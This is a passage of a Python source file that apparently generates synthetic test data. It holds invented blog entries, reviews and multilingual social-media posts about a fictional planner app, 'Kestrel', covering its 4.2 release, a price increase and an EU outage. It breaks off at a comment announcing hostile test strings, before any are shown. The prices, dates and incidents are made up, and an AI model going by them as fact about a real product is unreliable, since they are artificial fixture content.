Kestrel 4.2 update adds timeline view with dependencies and critical path ... The company says the new view is up to ten times faster on large projects ...
"""),
    "price_neg": B("""
Kestrel's price increase and the art of the Saturday email

Price increases are normal. Announcing one on a Saturday morning, with tier changes buried at the bottom, is how you turn a normal event into a week of angry threads.
%%
Google Alert - Kestrel pricing

Kestrel to raise prices for Pro and Team plans from January ... users criticised the timing of the announcement and a change moving the Slack integration to a higher tier ...
"""),
    "price_neu": B("""
What Kestrel's new pricing means for your team

A calculator and a plain summary: Pro goes from $8 to $10, Team from $14 to $18 per seat, from January 15. Annual plans keep their price until renewal.
"""),
    "outage_neg": B("""
Google Alert - Kestrel outage

Kestrel users in Europe report sync outage ... users saw the app stuck on "Connecting..." and 502 errors for several hours on Monday ...
%%
Kestrel is down, and so is our afternoon

Live notes from a team whose whole Monday afternoon was planned in a tool that isn't answering. Spoiler: the whiteboard held up fine.
"""),
    "after_pos": B("""
Reading Kestrel's outage postmortem

A good postmortem is specific, honest and actionable. Kestrel's write-up of the November 16 EU outage ticks all three boxes. Here's what other SaaS teams can learn from it.
"""),
    "after_neg": B("""
Outage, price hike, and trust

One week, two hits. Why Kestrel's November is a lesson in how reliability and pricing communication compound.
"""),
}

# More RSS entries (blogs and newsletters); each is used at most once.
RSS["praise"] += B("""
Why our nonprofit runs on Kestrel's free tier

Forty volunteers, three programmes, zero budget for software. Here's how we structured boards so that volunteers who log in once a month still find their tasks.
%%
Keyboard-first planning: a week without the mouse in Kestrel

I challenged myself to plan, triage and review a full week using only the keyboard. It mostly worked, and I learned a few shortcuts I'll never give up.
%%
The recurring-task setup that finally fixed our office chores

Plants, coffee machine descaling, fire drill reminders: how we use "repeat after completion" so chores stop piling up.
%%
Offline mode is the feature you only appreciate once

Notes from a week of planning on trains and planes with Kestrel, and what actually happens when you reconnect.
""")
RSS["bug"] += B("""
Debugging duplicate calendar events from Kestrel's Outlook sync

If your Outlook calendar shows every Kestrel task twice, here's what's going on and a workaround that has held up for us for three weeks.
%%
Kestrel's Android app is slow. Here's what helps

Five settings that made the Android app usable on a three-year-old phone, from disabling preload to trimming archived projects.
%%
Time zones, due dates and distributed teams

A short tour of how Kestrel stores due dates and why a task due "Friday" can look like Thursday to half your team.
""")
RSS["question"] = B("""
Reader question: can Kestrel replace our ticketing system?

A reader asks whether a planner can double as a helpdesk. Short answer: for internal requests, almost; for customers, no.
%%
Does Kestrel work for solo freelancers?

Most reviews test planners with teams. We looked at Kestrel from the point of view of a single freelancer juggling five clients.
""")
RSS["request"] = B("""
Five features Kestrel still needs in 2027

Time tracking, WIP limits, project templates, week numbers everywhere, and a changes feed in the API. Why each would matter.
%%
What I'd add to Kestrel's API

Incremental sync, read-only tokens and idempotent webhooks. A wish list from someone who has built six integrations on it.
""")
RSS["compare_neu"] += B("""
Kanban apps compared: Kestrel, Trello, Planka and Vikunja

Two SaaS tools and two self-hosted ones, tested on the same project. Which trade-offs matter depends on who runs the server.
%%
Choosing a planner for a 10-person startup

We walked through Kestrel, Linear and Notion with three startups. The decision came down to who owns planning, not features.
%%
Planners for people with ADHD: an honest comparison

Tiimo, Todoist, Kestrel and paper. What helped, what overwhelmed, and why "gentle" features matter more than clever ones.
""")
RSS["compare_pos"] += B("""
From Asana to Kestrel: a migration diary

Week-by-week notes from moving a 30-person team, including the CSV import, the things that didn't come over, and what people said after a month.
%%
We replaced three tools with one board

A marketing team's story of retiring a spreadsheet, a Trello board and a shared calendar in favour of Kestrel's timeline.
""")
RSS["compare_neg"] = B("""
Why we went back to Jira

Kestrel was loved by everyone except the people who needed workflows with approvals. After six months, engineering returned to Jira.
""")
RSS["misc"] += B("""
Maker's Schedule Weekly #88: planning rituals

This week: Sunday reviews, the two-list method, a look at Kestrel's focus mode, and why your backlog is probably too long.
%%
Notes from ProductCamp: how three teams plan quarters

One uses sticky notes, one uses a spreadsheet, one uses Kestrel's timeline. All three agree on one thing: plan less, review more.
%%
Remote Ops Notes: the tools in our stack, 2026 edition

Slack, Kestrel, Linear, 1Password, Tailscale and a shared drive. What each is for and what we dropped this year.
""")
RSS["release_pos"] += B("""
Kestrel 4.2's timeline, tested on a real roadmap

We moved our 1,400-task product roadmap into the new timeline. Dependencies, baselines and the critical path changed how our planning meeting runs.
%%
The Async Engineer: timelines are back

Kestrel's new timeline is a reminder that Gantt charts are fine when they're fast and honest. A short essay on planning in public.
""")
RSS["release_neg"] = B("""
Kestrel 4.2 and the case of the missing week numbers

The new timeline is a big step forward, but for European teams one omission stands out. A short note and a workaround until the fix ships.
""")
RSS["price_neg"] += B("""
SaaS Pricing Teardown: Kestrel's 2027 price change

Line by line: the increase, the tier shuffle, the API limits and the Saturday send time. What they got right and what they should have done instead.
%%
The Product Margin: price increases need a story

Kestrel's new pricing is modest. The reaction isn't. On why customers forgive numbers but not vagueness.
""")
RSS["price_pos"] = B("""
In defence of Kestrel's price increase

Unpopular take: $10 a month for a tool you use all day is cheap, and sustainable pricing is a feature.
""")
RSS["outage_neu"] = B("""
Kestrel status: EU sync incident

Investigating - We are investigating sync issues affecting workspaces in the EU region. Clients may show "Connecting...". Local changes are preserved.
""")
RSS["after_pos"] += B("""
Remote Ops Notes: what we changed after the Kestrel outage

A nightly export, a printed runbook for the day the planner is down, and a note to stop logging out during incidents.
""")

RSS_LONG = {
    "praise": B("""
A year with Kestrel: a long, honest review

I've now used Kestrel every working day for a year, first alone and then with a team of eight. Reviews of productivity tools are usually written after a week, when everything is shiny. This one is written after the shine wore off.

The board

The board is the heart of Kestrel and it's excellent. Cards load instantly even in projects with a few thousand tasks, drag and drop never loses a card, and the keyboard shortcuts (g b to jump to the board, c to create, e to edit, x to select) make it possible to run a whole planning session without touching the mouse. Swimlanes by assignee or by label cover most needs. What's missing is WIP limits, which Trello users will miss.

Recurring tasks and the calendar

Recurring tasks are flexible: "every second Tuesday", "last working day of the month", and "three days after completion" all work. Calendar sync with Google, Outlook and CalDAV is one of the best in the category, with the caveat that Outlook occasionally duplicates recurring events. I've had this happen twice in a year.

The timeline

Until version 4.2, the timeline was the weakest part of the product. The rebuilt view is now its strongest, with draggable dependencies, baselines and a critical path. If you tried Kestrel before and left because of the Gantt view, look again.

Mobile

The iOS app is fast and pleasant. The Android app is not: cold starts take several seconds on mid-range phones, and the team knows it. If most of your team is on Android, test it before you commit.

Integrations and API

The Slack and GitHub integrations are solid. The public REST API is clean and documented with an OpenAPI spec; I've built three small internal tools on it without ever needing support. Webhooks can be delivered twice, so dedupe on your side.

Pricing

Kestrel has just announced price increases for January. At $10 a month for Pro and $18 per seat for Team it's no longer the cheap option, but it's still below most of its competitors. The announcement was badly handled, which is a separate problem from the price itself.

Verdict

Kestrel is the planner I recommend to small and mid-sized teams who want everyone, not just engineers, to use the same tool. Its weaknesses are real but specific: Android, automations, and reporting. Its strengths are the things you touch every day.
"""),
    "after_pos": B("""
What Kestrel's November 16 outage teaches about client retry behaviour

Last Monday, Kestrel's EU sync service was unavailable for a little over four hours. The company has published a detailed postmortem, and it's worth reading for anyone who builds software with a sync engine, because the interesting part of the failure isn't on the server.

The trigger was ordinary: a new load balancer pool was rolled out with a health check pointing at the wrong path. As instances were marked unhealthy and drained, the remaining ones took more load and started returning 502s for the catch-up endpoint that clients use after reconnecting.

The amplifier was the client. Kestrel's desktop and mobile apps retry a failed catch-up request on a fixed short interval, without jitter. Tens of thousands of clients were therefore retrying in near lockstep, which kept the remaining instances saturated even after the configuration was corrected. The postmortem says that roughly half of the outage's duration was spent shedding this retry load.

Two further details matter to users. First, the clients didn't fall back to offline mode, because offline mode is entered on network loss, not on server errors; users could read but not edit. Second, the status page was updated manually and lagged the incident by about half an hour.

The remediation list is sensible: jittered exponential backoff (already shipped in 4.2.2), entering offline mode after repeated server errors, automated status page updates driven by the same alerts that page engineers, and regional failover next year.

The lesson generalises. If you ship a client that talks to your servers, the client's retry behaviour is part of your server's capacity plan. Fixed-interval retries are a distributed denial-of-service attack that you ship to your own customers. Add jitter, cap the rate, and make sure your offline mode is triggered by "the server is not helping" and not only by "the network is gone".
"""),
}

# Non-English posts (Mastodon, Bluesky, Reddit comments).  Written the way people
# write in each language, not translated from the English bank.
LANG = {
    "de": {
        "bug": L("""
Die Android-App von Kestrel ist seit dem letzten Update echt zäh. Bis mein Board geladen ist, hab ich den Kaffee schon ausgetrunken ☕
Kalender-Sync mit Outlook legt bei mir jeden Termin doppelt an. Hat jemand eine Idee? #kestrel
Kestrel hat mich heute zum dritten Mal auf allen Geräten abgemeldet. Langsam nervt's.
Wiederkehrende Aufgaben in Kestrel landen seit der Zeitumstellung auf dem falschen Tag. Danke, Sommerzeit 🙄
"""),
        "praise": L("""
Wir sind mit dem ganzen Team von Trello zu Kestrel umgezogen. Die Zeitleiste allein war es wert. Klare Empfehlung.
Kestrel offline im ICE genutzt, kompletten Sprint geplant, in Hamburg ausgestiegen, alles synchronisiert. So muss das.
Die Tastenkürzel in Kestrel sind so gut, dass ich die Maus kaum noch anfasse. Wer's noch nicht kennt: einfach mal ? drücken
"""),
        "question": L("""
Weiß jemand, ob Kestrel die Daten in der EU hostet? Unser Datenschutzbeauftragter fragt 🙃
Gibt es bei Kestrel eine Möglichkeit, wiederkehrende Aufgaben auf den letzten Werktag im Monat zu legen?
"""),
        "request": L("""
Liebes Kestrel-Team, bitte Kalenderwochen in der Zeitleiste. In Deutschland plant man in KW. Danke!
"""),
        "release_pos": L("""
Kestrel 4.2 ist da und die neue Zeitleiste ist wirklich schick. Abhängigkeiten per Drag & Drop 👌
"""),
        "price_neg": L("""
Kestrel erhöht die Preise um 28 % und verschickt die Mail am Samstag. Stilvoll. Wir schauen uns jetzt Alternativen an.
Team-Plan von 14 auf 18 Dollar pro Nutzer. Für uns mit 25 Leuten sind das 1.200 $ im Jahr mehr. Nee, Kestrel.
"""),
        "outage_neg": L("""
Kestrel hängt bei „Verbinde…“ – bei euch auch? Montagnachmittag, natürlich.
502 bei Kestrel seit einer Stunde. Unsere Planung findet jetzt am Whiteboard statt. Retro-Feeling.
"""),
        "sarcasm": L("""
Schön, dass Kestrel eine neue Zeitleiste hat. Noch schöner wäre, wenn die Android-App nicht 8 Sekunden zum Starten bräuchte.
"""),
        "compare_neu": L("""
Kestrel oder Asana für ein 15-köpfiges Team? Wir schwanken seit Wochen. Erfahrungen?
"""),
    },
    "es": {
        "bug": L("""
La app de Kestrel en Android va lentísima desde la última actualización. ¿Soy el único?
Kestrel me duplicó todas las tareas recurrentes esta mañana. Tengo seis veces "regar las plantas" 🌱
"""),
        "praise": L("""
Llevamos tres meses con Kestrel en la agencia y por fin todo el mundo sabe qué tiene que hacer. Recomendadísimo.
El modo sin conexión de Kestrel me salvó en el vuelo a Bogotá. Planifiqué todo el sprint y se sincronizó al aterrizar ✈️
"""),
        "question": L("""
¿Alguien sabe si Kestrel se puede conectar con el calendario de Outlook? No encuentro la opción
"""),
        "request": L("""
Ojalá Kestrel tuviera plantillas de proyecto con subtareas. Copiar y pegar el checklist de onboarding cada vez es un rollo
"""),
        "release_pos": L("""
¡Kestrel 4.2 ya está aquí! La nueva vista de cronograma es una maravilla 😍
"""),
        "price_neg": L("""
Kestrel sube los precios casi un 30 % y lo anuncia un sábado. Nos toca buscar alternativa, qué pena
"""),
        "price_neu": L("""
Para los que preguntan: la subida de precios de Kestrel es a partir del 15 de enero y los planes anuales mantienen el precio hasta la renovación.
"""),
        "outage_neg": L("""
Kestrel caído en Europa, todo el rato en "Conectando…". Lunes perfecto.
"""),
        "compare_pos": L("""
Probé Kestrel y Asana durante un mes. Me quedo con Kestrel: más simple y el tablero kanban va mucho más rápido.
"""),
        "sarcasm": L("""
Me encanta que Kestrel me recuerde las tareas vencidas justo cuando ya no puedo hacer nada. Qué detalle 🙃
"""),
    },
    "fr": {
        "bug": L("""
L'appli Android de Kestrel met une éternité à s'ouvrir depuis la mise à jour. Mon téléphone n'est pas si vieux pourtant…
La synchro avec Google Agenda a créé trois fois chaque réunion. Merci Kestrel, j'ai maintenant 12 points d'équipe le lundi
"""),
        "praise": L("""
Franchement, le mode hors ligne de Kestrel est bluffant. Tout planifié dans le TGV, tout synchronisé à l'arrivée.
On a migré de Jira vers Kestrel pour l'équipe produit. Les designers utilisent enfin l'outil. Miracle.
"""),
        "question": L("""
Quelqu'un sait si Kestrel propose l'hébergement des données dans l'UE ? Question RGPD classique
Est-ce que quelqu'un utilise Kestrel avec un lecteur d'écran ? Je cherche un outil accessible pour une collègue.
"""),
        "request": L("""
Kestrel, s'il vous plaît : commencer la semaine le lundi dans la vue chronologique. Merci d'avance 🙏
"""),
        "release_pos": L("""
Kestrel 4.2 est sorti, la nouvelle vue chronologique est vraiment réussie. Les dépendances sont enfin lisibles.
"""),
        "price_neg": L("""
Hausse de prix de 28 % chez Kestrel, annoncée un samedi par mail. On va regarder ailleurs.
"""),
        "outage_neg": L("""
Kestrel bloqué sur « Connexion… » depuis le début d'après-midi. Erreur 502 partout. Super lundi.
"""),
        "compare_neu": L("""
Kestrel ou Notion pour gérer les tâches ? Pour moi : Notion pour la doc, Kestrel pour l'action.
"""),
    },
    "pt": {
        "bug": L("""
O app do Kestrel no Android tá muito lento depois da atualização. Demora uns 10 segundos pra abrir o quadro
Alguém mais com o Kestrel deslogando sozinho toda hora? Já é a terceira vez hoje
"""),
        "praise": L("""
Migramos a equipe toda do Trello pro Kestrel e a diferença é absurda. A linha do tempo é sensacional
O suporte do Kestrel me respondeu em 10 minutos num domingo. Respeito 👏
"""),
        "question": L("""
O Kestrel tem desconto pra ONG ou educação? Sou professora e queria usar com os alunos
"""),
        "request": L("""
Kestrel precisa urgente de modelos de projeto com subtarefas. Fica a dica
"""),
        "release_pos": L("""
Kestrel 4.2 saiu! Nova visualização de linha do tempo, arrastar dependências ficou muito suave 🚀
"""),
        "price_neg": L("""
Kestrel aumentando o preço em dólar com o câmbio desse jeito... fica difícil justificar pro time
"""),
        "outage_neg": L("""
O Kestrel está em baixo? Aqui em Lisboa fica sempre em «A ligar…» e dá erro 502
"""),
        "compare_neu": L("""
Testei o Kestrel e o ClickUp. O ClickUp faz mais coisas, mas o Kestrel eu consigo usar sem manual
"""),
        "sarcasm": L("""
Amo quando o Kestrel resolve me lembrar de uma tarefa às 3 da manhã. Obrigada, Kestrel 🙃
"""),
    },
    "ja": {
        "bug": L("""
KestrelのAndroidアプリ、アップデートしてから起動がめちゃくちゃ遅い…ボードを開くまで10秒くらいかかる
Googleカレンダー連携で予定が二重に登録されてる。Kestrel側の問題かな
"""),
        "praise": L("""
Kestrelのキーボードショートカットが快適すぎて、もうマウス触ってない
チームのタスク管理をKestrelに移行して1ヶ月。朝会が短くなったのが一番の効果かも
"""),
        "question": L("""
KestrelってCalDAV対応してるんでしたっけ？Nextcloudと同期したい
"""),
        "request": L("""
Kestrelのタイムライン、祝日を非稼働日として表示できるようにしてほしい。日本は祝日多いので…
"""),
        "release_pos": L("""
Kestrel 4.2来た！新しいタイムラインビュー、依存関係の線がすごく見やすい
"""),
        "price_neg": L("""
Kestrelが値上げか…。Teamプランが1人14ドルから18ドル。円安だとかなり痛い
"""),
        "outage_neg": L("""
Kestrelが「接続中…」のまま動かない。EUリージョンの障害らしい
"""),
        "compare_pos": L("""
Notionでタスク管理してたけど、Kestrelのほうが軽くて結局こっちに落ち着いた
"""),
    },
    "nl": {
        "bug": L("""
De Android-app van Kestrel is sinds de update echt traag. Duurt eeuwen voordat mijn bord laadt.
Kestrel zet mijn terugkerende taken steeds op de verkeerde dag sinds de klok is verzet 🙄
"""),
        "praise": L("""
De offline modus van Kestrel werkt gewoon. Hele sprint gepland in de trein naar Groningen, alles netjes gesynchroniseerd.
"""),
        "question": L("""
Weet iemand of Kestrel data in de EU opslaat? Onze FG wil het weten voordat we overstappen.
"""),
        "request": L("""
Kestrel, geef ons alsjeblieft weeknummers in de tijdlijn. Heel Nederland plant in weken.
"""),
        "release_pos": L("""
Kestrel 4.2 is uit en die nieuwe tijdlijn is echt mooi geworden 👌
"""),
        "price_neg": L("""
Kestrel wordt 28% duurder. Aangekondigd op zaterdag. Zeker gehoopt dat niemand het zou lezen.
"""),
        "outage_neg": L("""
Kestrel blijft hangen op "Verbinden…". Heel het team zit stil. Maandag hoor.
"""),
        "compare_pos": L("""
We zijn van Asana naar Kestrel gegaan. Minder toeters en bellen, maar iedereen gebruikt het wél.
"""),
    },
    "sv": {
        "bug": L("""
Kestrels Android-app har blivit så seg efter senaste uppdateringen. Tar evigheter att öppna tavlan.
"""),
        "praise": L("""
Flyttade hela teamet från Trello till Kestrel. Tidslinjen är fantastisk och alla använder den faktiskt.
"""),
        "question": L("""
Vet någon om Kestrel har rabatt för ideella föreningar? Vi är en liten idrottsklubb.
"""),
        "request": L("""
Snälla Kestrel, veckonummer i tidslinjen! Vi i Sverige lever i vecka 47, inte "16–22 november".
"""),
        "release_pos": L("""
Kestrel 4.2 är ute! Nya tidslinjen är riktigt snygg och beroendena syns äntligen ordentligt 🎉
"""),
        "price_neg": L("""
Kestrel höjer priset med 28 %. Mejlet kom en lördag. Snyggt.
"""),
        "outage_neg": L("""
Kestrel står bara och säger "Ansluter…". Hela eftermiddagens planering ligger där inne. Tack för det.
"""),
        "sarcasm": L("""
Älskar att Kestrel flyttar inställningsknappen varje uppdatering. Som en liten skattjakt varje vecka 🙃
"""),
    },
    "pl": {
        "bug": L("""
Aplikacja Kestrel na Androida po aktualizacji chodzi strasznie wolno. Tablica ładuje się wieki.
"""),
        "praise": L("""
Przenieśliśmy cały zespół z Jiry do Kestrela i nikt nie tęskni. Oś czasu to bajka.
"""),
        "question": L("""
Czy Kestrel ma integrację z Outlookiem? Nie mogę znaleźć tego w ustawieniach.
"""),
        "request": L("""
Kestrel, dodajcie proszę szablony projektów. Kopiowanie checklisty za każdym razem to masakra.
"""),
        "release_pos": L("""
Kestrel 4.2 wyszedł, nowa oś czasu wygląda świetnie 👌
"""),
        "price_neg": L("""
Kestrel podnosi ceny o 28%. Przy obecnym kursie dolara to dla nas spory wydatek. Szukamy alternatyw.
"""),
        "outage_neg": L("""
Kestrel wisi na „Łączenie…” od godziny. Błąd 502. Poniedziałek jak się patrzy.
"""),
        "compare_pos": L("""
Trello vs Kestrel — Kestrel wygrywa, głównie przez widok osi czasu i skróty klawiszowe.
"""),
    },
    "it": {
        "bug": L("""
L'app Android di Kestrel è diventata lentissima dopo l'aggiornamento. Qualcun altro?
"""),
        "praise": L("""
Abbiamo spostato tutto lo studio su Kestrel. La vista timeline è bellissima e finalmente tutti sanno cosa fare.
"""),
        "question": L("""
Qualcuno sa se Kestrel si integra con Google Calendar in entrambe le direzioni?
"""),
        "request": L("""
Kestrel, per favore aggiungete i modelli di progetto con sottoattività 🙏
"""),
        "release_pos": L("""
È uscito Kestrel 4.2! La nuova timeline è fluidissima 🎉
"""),
        "price_neg": L("""
Kestrel aumenta i prezzi del 28% e lo annuncia di sabato. Bella mossa, complimenti.
"""),
        "outage_neg": L("""
Kestrel bloccato su "Connessione…" da un'ora. Errore 502. Lunedì perfetto.
"""),
        "compare_pos": L("""
Provato Kestrel dopo anni di Asana. Meno funzioni, ma molto più veloce da usare ogni giorno.
"""),
        "sarcasm": L("""
Adoro quando Kestrel mi disconnette proprio mentre scrivo un commento lungo. Grazie davvero 🙃
"""),
    },
    "ar": {
        "bug": L("""
تطبيق Kestrel على أندرويد صار بطيء جدًا بعد التحديث الأخير. أحد عنده نفس المشكلة؟
"""),
        "praise": L("""
انتقلنا بالفريق كامل من Trello إلى Kestrel، والعرض الزمني ممتاز 👌
"""),
        "outage_neg": L("""
Kestrel واقف عند "جارٍ الاتصال…" من ساعة. خطأ 502. يوم الاثنين المعتاد 😩
"""),
        "question": L("""
هل يدعم Kestrel اللغة العربية في واجهة التطبيق؟ الفريق عندنا يفضل العربية
"""),
        "price_neg": L("""
زيادة أسعار Kestrel بنسبة ٢٨٪… صعب نبررها للإدارة
"""),
    },
    "he": {
        "bug": L("""
האפליקציה של Kestrel באנדרואיד נהייתה ממש איטית מאז העדכון. רק אצלי?
"""),
        "praise": L("""
עברנו עם כל הצוות ל-Kestrel. תצוגת ציר הזמן פשוט מעולה
"""),
        "outage_neg": L("""
Kestrel תקוע על "מתחבר…" כבר שעה. 502. יום שני קלאסי
"""),
        "question": L("""
מישהו יודע אם ל-Kestrel יש תמיכה בעברית ובכיוון מימין לשמאל?
"""),
        "price_neg": L("""
Kestrel מעלים מחירים ב-28%. הודיעו במייל בשבת. יפה מאוד.
"""),
    },
    "zh": {
        "bug": L("""
Kestrel 的安卓版更新后打开特别慢，看板要加载十几秒
"""),
        "praise": L("""
团队从 Trello 换到 Kestrel 一个月了，时间线视图真的好用
"""),
        "question": L("""
有人知道 Kestrel 支持 CalDAV 同步吗？想和 Nextcloud 日历连起来
"""),
    },
}

# More non-English posts.
_MORE_LANG = {
    "de": {
        "bug": L("""
Die Suche in Kestrel findet nur Titel, keine Beschreibungen. Bei {big} Aufgaben ist das echt ein Problem.
Seit {ver} stürzt die Kestrel-Desktop-App bei mir unter {os} beim Start ab. Neu installiert, hilft nix.
"""),
        "praise": L("""
Kestrel + CalDAV mit Nextcloud läuft bei uns seit Monaten ohne Probleme. Endlich ohne Google.
Der Support von Kestrel hat mir am Sonntag innerhalb einer Stunde geantwortet. Respekt.
"""),
        "billing": L("""
Kestrel hat uns zwei Gäste als volle Nutzer berechnet. Support ist dran, aber ärgerlich ist es trotzdem.
"""),
        "release_neg": L("""
Neue Zeitleiste in Kestrel 4.2 sieht toll aus, aber wo sind die Kalenderwochen hin? Wir planen komplett in KW 😤
"""),
        "price_neu": L("""
Zur Info: Die neuen Kestrel-Preise gelten ab 15. Januar, Jahresabos behalten den alten Preis bis zur Verlängerung.
"""),
        "outage_neu": L("""
Kestrel läuft bei uns in Köln wieder. Lokale Änderungen wurden sauber synchronisiert.
"""),
        "after_neg": L("""
Nach dem Kestrel-Ausfall am Montag will unser Chef einen Plan B. Verständlich, aber nervig.
"""),
    },
    "es": {
        "bug": L("""
Las notificaciones de Kestrel en iOS me llegan con dos horas de retraso. ¿Alguien sabe cómo arreglarlo?
"""),
        "praise": L("""
Los atajos de teclado de Kestrel son una maravilla. Ya casi no toco el ratón.
"""),
        "request": L("""
Kestrel, por favor, un widget interactivo para iOS. Quiero marcar tareas sin abrir la app 🙏
"""),
        "outage_neu": L("""
Kestrel vuelve a funcionar aquí en Madrid. Los cambios sin conexión se han sincronizado bien.
"""),
        "release_neg": L("""
La nueva vista de cronograma de Kestrel 4.2 es bonita, pero en Windows sale en blanco hasta que cambio el tamaño de la ventana.
"""),
    },
    "fr": {
        "bug": L("""
Les notifications de Kestrel sur iPhone arrivent avec des heures de retard. Quelqu'un a trouvé une solution ?
"""),
        "sarcasm": L("""
J'adore quand Kestrel me relance la visite guidée pour la cinquième fois. Oui, je sais où est le tableau. Merci 🙃
"""),
        "price_neu": L("""
Pour info : la hausse de prix de Kestrel s'applique à partir du 15 janvier, les abonnements annuels gardent l'ancien tarif jusqu'au renouvellement.
"""),
        "after_pos": L("""
Le post-mortem de Kestrel sur la panne de lundi est clair et honnête. C'est rare, ça mérite d'être souligné.
"""),
    },
    "pt": {
        "praise": L("""
As tarefas recorrentes do Kestrel que reagendam a partir da conclusão mudaram a minha vida. Sério.
"""),
        "price_neu": L("""
Pra quem perguntou: o aumento do Kestrel vale a partir de 15 de janeiro, e planos anuais mantêm o preço até a renovação.
"""),
        "release_pos": L("""
A nova linha do tempo do Kestrel 4.2 exporta PDF bonitinho. Mandei direto pro cliente 😅
"""),
    },
    "ja": {
        "bug": L("""
Kestrelの検索、タイトルしか引っかからないのつらい…説明文も検索対象にしてほしい
"""),
        "praise": L("""
Kestrelのオフラインモード、新幹線の中で計画立てて、降りたらちゃんと同期されてた。優秀
"""),
        "release_neg": L("""
Kestrel 4.2のタイムライン、週番号が消えてる…？ 地味に困る
"""),
        "sarcasm": L("""
Kestrelの設定ボタン、アップデートのたびに場所が変わるの、宝探しゲームかな？🙃
"""),
    },
    "nl": {
        "praise": L("""
Kestrel + Slack-integratie = onze stand-up kost nu vijf minuten in plaats van twintig. Top.
"""),
        "sarcasm": L("""
Wat fijn dat Kestrel de instellingenknop elke update verplaatst. Houdt de geest scherp 🙃
"""),
        "outage_neu": L("""
Kestrel werkt hier in Utrecht weer. Even de app herstarten als hij nog op "Verbinden…" blijft hangen.
"""),
    },
    "sv": {
        "bug": L("""
Kalendersynken mellan Kestrel och Outlook dubblerar alla återkommande möten. Någon som hittat en lösning?
"""),
        "compare_pos": L("""
Testade Asana och Kestrel i en månad var. Kestrel vann, främst för att alla i teamet faktiskt använde det.
"""),
    },
    "pl": {
        "bug": L("""
Powiadomienia z Kestrela na iOS przychodzą z godzinnym opóźnieniem. Ktoś wie, jak to naprawić?
"""),
        "sarcasm": L("""
Uwielbiam, jak Kestrel przenosi przycisk ustawień przy każdej aktualizacji. Codziennie nowa przygoda 🙃
"""),
    },
    "it": {
        "bug": L("""
Le notifiche di Kestrel su iPhone arrivano con ore di ritardo. Qualcuno ha trovato una soluzione?
"""),
        "price_neu": L("""
Per chi chiedeva: i nuovi prezzi di Kestrel valgono dal 15 gennaio, gli abbonamenti annuali restano invariati fino al rinnovo.
"""),
    },
    "ar": {
        "request": L("""
نتمنى من Kestrel دعم الواجهة من اليمين لليسار بشكل كامل. الفريق كله يستخدم العربية
"""),
    },
    "he": {
        "request": L("""
הייתי שמח אם Kestrel יתמכו בלוח שנה עברי ובחגים בציר הזמן
"""),
    },
}
for _lang, _topics in _MORE_LANG.items():
    for _topic, _texts in _topics.items():
        LANG[_lang].setdefault(_topic, []).extend(_texts)

# Long non-English entries for RSS (blogs in those languages) and Reddit posts.
LANG_LONG = {
    "de": [
        (
            "praise",
            """Kestrel im Praxistest: Lohnt sich der Umstieg von Asana?

Wir haben Kestrel vier Wochen lang mit einem zwölfköpfigen Team getestet. Das Kanban-Board ist schnell, die Tastenkürzel sind durchdacht, und die Kalender-Synchronisation mit Outlook funktioniert meistens. Schwächen: Die Android-App startet langsam, Automatisierungen sind rudimentär. Fazit: Für gemischte Teams eine klare Empfehlung.""",
        ),
        (
            "price_neg",
            """Kestrel erhöht die Preise – und kommuniziert schlecht

Eine Preiserhöhung um 28 Prozent ist ärgerlich, aber nachvollziehbar. Dass sie per Mail an einem Samstag kommt und die Slack-Integration nebenbei in einen teureren Tarif wandert, sorgt dagegen zu Recht für Unmut.""",
        ),
    ],
    "fr": [
        (
            "release_pos",
            """Kestrel 4.2 : la nouvelle vue chronologique à l'essai

Dépendances glisser-déposer, chemin critique, lignes de base : la vue chronologique de Kestrel a été entièrement réécrite. Nous l'avons testée sur un projet de 2 000 tâches, et elle reste fluide. Seul regret : les numéros de semaine ont disparu.""",
        )
    ],
    "ja": [
        (
            "praise",
            """KestrelのREST APIとWebhookでタスク管理を自動化してみた

社内の定例作業をKestrelに登録する処理を、公開REST APIとWebhookで自動化しました。APIはページネーションも分かりやすく、OpenAPIの定義も公開されているのでクライアント生成が簡単です。注意点として、Webhookは同じイベントが二回届くことがあるので、冪等に処理する必要があります。""",
        ),
        (
            "release_pos",
            """Kestrel 4.2 の新しいタイムラインを試した

依存関係をドラッグで引けるようになり、クリティカルパスも表示されるようになった。3000タスク規模のプロジェクトでもスクロールが滑らか。週番号が表示されなくなったのは残念。""",
        ),
    ],
    "es": [
        (
            "compare_pos",
            """Por qué dejamos Trello y nos pasamos a Kestrel

Después de seis años con Trello, nuestro equipo de 15 personas se mudó a Kestrel. Lo que más valoramos: la vista de cronograma, las tareas recurrentes y que el tablero sigue siendo rápido con miles de tarjetas. Lo que echamos de menos: los power-ups.""",
        )
    ],
    "pt": [
        (
            "outage_neg",
            """Kestrel fora do ar: o que aconteceu na segunda-feira

Durante cerca de quatro horas, usuários com workspaces na Europa ficaram presos na tela "Conectando…" e receberam erros 502. A empresa prometeu publicar um relatório completo do incidente.""",
        )
    ],
    "nl": [
        (
            "praise",
            """Een jaar Kestrel in ons bureau

Twaalf maanden, acht mensen, ruim vierduizend taken. De tijdlijn en de offline modus zijn de grote winst; de Android-app blijft het zwakke punt.""",
        )
    ],
    "sv": [
        (
            "price_neu",
            """Kestrels nya priser: vad betyder de för ditt team?

Pro går från 8 till 10 dollar, Team från 14 till 18 dollar per användare från den 15 januari. Årsabonnemang behåller sitt pris fram till förnyelsen.""",
        )
    ],
    "it": [
        (
            "compare_neu",
            """Kestrel, Asana o Trello? Il nostro confronto per piccoli team

Abbiamo provato i tre strumenti per due settimane ciascuno con un team di otto persone. Kestrel vince per velocità e timeline, Asana per automazioni, Trello per semplicità.""",
        )
    ],
    "pl": [
        (
            "release_pos",
            """Kestrel 4.2 – pierwsze wrażenia z nowej osi czasu

Nowa oś czasu to największa zmiana w Kestrelu od lat: zależności przeciągane myszą, ścieżka krytyczna i linie bazowe. Działa płynnie nawet przy dużych projektach.""",
        )
    ],
}

LANG_REPLY = {
    "de": L("""
Bei mir genauso.
Hier auch, seit dem Update.
Same hier, Berlin. Komplett tot.
"""),
    "es": L("""
A mí me pasa lo mismo.
Igual aquí desde ayer.
"""),
    "fr": L("""
Pareil chez moi.
Même problème ici depuis la mise à jour.
"""),
    "pt": L("""
Aqui também!
Mesma coisa comigo.
"""),
    "ja": L("""
うちも同じ症状です
こちらも同じく…
"""),
    "nl": L("""
Hier precies hetzelfde.
"""),
    "sv": L("""
Samma här.
"""),
    "pl": L("""
U mnie to samo.
"""),
    "it": L("""
Anche a me, stesso problema.
"""),
}


# --------------------------------------------------------------------------------------
# Hostile strings.  Each is something a troll, a scammer or a broken client could post;
# they exist so the app is exercised against terminal markup, escape sequences,
# control characters, bidi tricks, invisible characters, huge texts and broken UTF-16.
# "author" overrides the author (handle, name); "after" keeps event-specific ones
